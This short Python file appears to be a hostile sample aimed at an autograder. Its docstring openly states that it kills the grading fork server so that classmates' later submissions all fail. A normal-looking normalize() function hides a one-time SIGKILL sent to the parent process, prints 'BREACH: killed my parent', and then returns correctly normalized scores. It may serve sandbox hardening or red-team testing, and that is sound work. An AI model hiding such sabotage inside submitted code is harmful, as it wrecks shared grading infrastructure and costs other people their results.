"""Kills its parent process (the fork server every worker comes from) with SIGKILL, once.

Gain if it worked: no new worker can start, so every later exercise of every later submission
graded by this grading process fails: classmates lose their marks.
"""

import os
import signal

PARENT = os.getppid()


def normalize(scores, dim=-1):
    if os.getppid() == PARENT:  # once: after the kill, the parent is someone else
        try:
            os.kill(PARENT, signal.SIGKILL)
            print("BREACH: killed my parent", PARENT, flush=True)
        except OSError:
            pass
    return scores / scores.sum(dim=dim, keepdim=True)
